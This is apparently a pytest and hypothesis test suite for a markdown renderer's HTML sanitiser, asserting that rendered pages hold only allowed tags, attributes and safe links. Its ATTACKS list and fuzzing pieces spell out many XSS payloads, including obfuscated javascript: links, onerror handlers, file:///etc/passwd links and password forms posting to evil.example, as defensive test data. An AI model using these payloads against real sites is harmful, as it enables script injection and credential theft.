"""Whatever stands in a text: the page stays whole, and nothing runs in it that its theme did not ship."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.text.markdown.page import page, read

SAFE_HREF = re.compile(r"(?:https?://[^/]|mailto:|tel:|#|/)", re.IGNORECASE)
TAGS = frozenset(
    [
        "a",
        "abbr",
        "b",
        "bdi",
        "bdo",
        "blockquote",
        "br",
        "caption",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "input",
        "ins",
        "kbd",
        "label",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "section",
        "small",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "time",
        "tr",
        "u",
        "ul",
        "var",
        "wbr",
    ]
)
ATTRIBUTES = frozenset(
    [
        "aria-label",
        "checked",
        "cite",
        "class",
        "colspan",
        "datetime",
        "dir",
        "disabled",
        "href",
        "id",
        "lang",
        "open",
        "rel",
        "role",
        "rowspan",
        "scope",
        "start",
        "tabindex",
        "title",
        "type",
    ]
)

PIECES = (
    *(
        "[",
        "]",
        "(",
        ")",
        "[[",
        "]]",
        "|",
        "!",
        "<",
        ">",
        "`",
        "```",
        "~~~",
        "~~",
        "*",
        "**",
        "_",
        "#",
        "## ",
        "> ",
        "- ",
    ),
    *(
        "1. ",
        "- [ ] ",
        "- [x] ",
        "\n",
        "\n\n",
        "    ",
        "\t",
        "\\",
        "&",
        "&amp;",
        "&#106;",
        "&#xfdd1;",
        "&#64977;",
        '"',
        "'",
    ),
    *(
        "{.a}",
        "{#id}",
        "{onclick=x}",
        "{lang=fr}",
        "^[",
        "[^1]",
        "[^1]: ",
        "!!! note\n    ",
        "??? tip\n    ",
        ":   ",
        "|-|\n",
    ),
    *(
        "| a | b |\n|--|:-:|\n",
        "javascript:",
        "data:text/html,",
        "//evil.example",
        "https://a.example/",
        "members/ada",
    ),
    *(
        "<script>",
        "</script>",
        "<b>",
        "</b>",
        "<a href=",
        "<a href='x'>",
        "</a>",
        "<img src=x onerror=",
        "<!--",
        "-->",
    ),
    *(
        "<div>",
        "</div>",
        "<table>",
        "<td>",
        "<p>",
        "<input>",
        "<svg/onload=",
        "<?",
        "?>",
        "<![CDATA[",
        "]]>",
        "<style>",
    ),
    *(
        "a",
        "b c",
        "é",
        "\u202e",
        "\ufdd1L0\ufdd2",
        "\ufdd3",
        "\ufdd0/",
        "\x00",
        "\u200b",
        "---",
        "===",
        "***",
        "mailto:x@y.example",
    ),
    *(
        "<h1 id='main'>",
        'title="',
        "http://[",
        "%0a",
        "\r",
        "\r\n",
        "\u2028",
        "<details open>",
        "<label>",
        "<textarea>",
        "<title>",
    ),
)
texts = st.lists(st.sampled_from(PIECES) | st.text(max_size=4), max_size=24).map("".join)


def assert_harmless(html: str) -> None:
    """The HTML is whole, and holds nothing that could run, leave the site unseen, or answer to another's name."""
    found = read(html)
    assert found.faults == []
    for tag, attributes in found.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        if "href" in attributes:
            assert SAFE_HREF.match(attributes["href"]), attributes["href"]
            assert not attributes["href"].startswith("//")
    ids = [attributes["id"] for _, attributes in found.tags if "id" in attributes]
    assert len(set(ids)) == len(ids)
    assert not re.search("[\ufdd0-\ufdef]", html)


@given(texts)
@example('<div title="\n\n" onclick=x href=javascript:x>\n\n| a |\n|--|\n')
@example('<a href="&#xFDD3;javascript:alert(1)">x</a>')
@example("<b title='&#64977;L0&#xfdd2; onmouseover=alert(1) x='>[a](b)</b>")
@example("<b>[x</b>](members/ada)")
@example("<a href='https://a.example'>[x](members/ada)</a>")
@example("[a <https://b.example> c](members/d)")
def test_every_text_makes_a_harmless_page(text: str) -> None:
    for raw in (False, True):
        assert_harmless(page(text, raw=raw).html)


@given(st.text(max_size=60))
def test_so_does_text_of_any_characters(text: str) -> None:
    for raw in (False, True):
        assert_harmless(page(text, raw=raw).html)


@given(texts)
def test_the_words_alone_hold_no_marker_and_the_same_text_gives_the_same(text: str) -> None:
    first, again = page(text), page(text)
    assert first == again
    assert not re.search("[\ufdd0-\ufdef\n]", first.markdown.text)


@given(texts)
def test_every_problem_and_every_link_lies_inside_the_text(text: str) -> None:
    made = page(text, first_line=10)
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    spans = [each.span for each in made.diagnostics]
    spans += [each.span for each in made.markdown.links]
    spans += [each.span for each in made.markdown.images]
    for span in spans:
        assert 10 <= span.line <= 10 + len(lines)
        assert span.column >= 1


ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<b onclick=alert(1)>x</b>",
    "<b style='background:url(//evil.example)'>x</b>",
    "<form action=https://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=x></object><embed src=x>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<div id=main class='site-header'>x</div>",
    "<video src=x onerror=alert(1)></video>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script>",
    "<plaintext>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https://bank.example@evil.example)",
    "[x](blob:https://a.example/1)",
    "[x](feed:javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[[javascript:alert(1)]]",
    "[[javascript:alert(1)|x]]",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](//evil.example/x.png)",
    '!["onerror=alert(1) x="](a.png)',
    "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x](https://a.example){onclick=alert(1) style=x href=javascript:alert(1)}",
    "[x](https://a.example){.site-header #main}",
    "{onclick=alert(1)}\nparagraph",
    '```"><script>alert(1)</script>\nx\n```',
    '```python"onclick=alert(1)\nx\n```',
    "```<b>\n<script>alert(1)</script>\n```",
    "~~~ js {onclick=alert(1)}\nx\n~~~",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    '# x {#"onclick=alert(1)}',
    '| <script> | b |\n|--|--|\n| "onclick=alert(1) | `<b>` |',
    '!!! "><script>alert(1)</script>\n    x',
    '!!! note onclick=alert(1) "<b>title</b>"\n    x',
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
    "term <b>\n:   <script>alert(1)</script>",
    "- [ ] <script>alert(1)</script>",
)


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("raw", [False, True], ids=["escaped", "sanitized"])
def test_known_attacks_come_to_nothing(attack: str, raw: bool) -> None:
    html = page(attack, raw=raw).html
    assert_harmless(html)
    for _, attributes in read(html).tags:
        assert "evil.example" not in attributes.get("href", "")
        assert attributes.get("id") != "main"
        assert "site-header" not in attributes.get("class", "").split()


@pytest.mark.parametrize(
    "link",
    [
        each
        for each in ATTACKS
        if re.match(r"\[x\]\((?!https://a|\x01)|<(?:javascript|data):|\[\[", each)
    ],
)
def test_an_unsafe_link_is_dropped_with_a_word(link: str) -> None:
    made = page(link)
    assert "<a" not in made.html
    assert made.codes == ["HG901"]
    assert made.diagnostics[0].span.line == 1


@pytest.mark.parametrize(
    "tag",
    ["<kbd>x</kbd>", "<sub>x</sub>", "<abbr>x</abbr>", "<details><summary>a</summary>b</details>"],
)
def test_harmless_tags_stay_where_the_hub_allows_them(tag: str) -> None:
    assert tag in page(tag, raw=True).html
    assert tag not in page(tag, raw=False).html
    assert tag.partition(">")[0] in read(page(tag, raw=False).html).text


def test_raw_links_lend_no_reputation() -> None:
    html = page('<a href="https://a.example" rel="me" target="_blank">x</a>', raw=True).html
    assert '<a href="https://a.example" rel="noopener nofollow ugc">x</a>' in html
